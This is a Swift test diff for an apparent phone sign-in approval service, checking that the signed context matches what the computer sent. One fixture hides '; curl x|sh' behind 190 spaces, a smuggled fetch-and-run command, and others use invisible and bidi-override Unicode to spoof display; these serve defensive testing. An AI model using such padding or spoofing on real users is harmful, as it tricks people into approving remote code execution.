@@ -43,6 +43,32 @@ import Testing
     #expect(try await phone.list().first?.context == context)
   }
 
+  /// What is signed stays as the computer sent it; old computers cut it at 200 characters, and made it plain.
+  @Test(arguments: [
+    SignInContext(host: "web-1", command: "apt upgrade" + String(repeating: " ", count: 190) + "; curl x|sh"),
+    SignInContext(host: "a\u{202E}b\u{AD}\u{9B}", further: [.init(name: "to", value: "\u{3164}\u{FE0F}\n")]),
+    SignInContext(command: String(repeating: "x", count: 20_000)), SignInContext(host: "web-1", command: "a?b"),
+  ])
+  func whatThePhoneSignsIsWhatCame(_ context: SignInContext) async throws {
+    let fixture = try await Fixture()
+    let phone = try await TestPhone.registered(in: fixture)
+    let session = try await fixture.started("alice", context: context)
+    let request = try #require(try await phone.list().first)
+    #expect(request.context.json.encoded() == context.json.encoded())
+    #expect(try await phone.answer(.approve, to: request).status == 200)
+    #expect(try await fixture.status(of: session).status == .active)
+  }
+
+  @Test func whatIsShownIsNotWhatIsSigned() async throws {
+    let fixture = try await Fixture()
+    let phone = try await TestPhone.registered(in: fixture)
+    _ = try await fixture.started("alice", context: SignInContext(host: "a  b"))
+    let request = try #require(try await phone.list().first)
+    let shown = SignInContext(host: DisplayText.escaped("a  b"))
+    let body = try phone.answerBody(.approve, to: request, contextHash: ShownContext.hash(shown))
+    #expect(await send(body, fixture).reason == "WRONG_CONTEXT")
+  }
+
   @Test func refusesASecondAnswer() async throws {
     let (fixture, phone, session) = try await waiting()
     let request = try #require(try await phone.list().first)
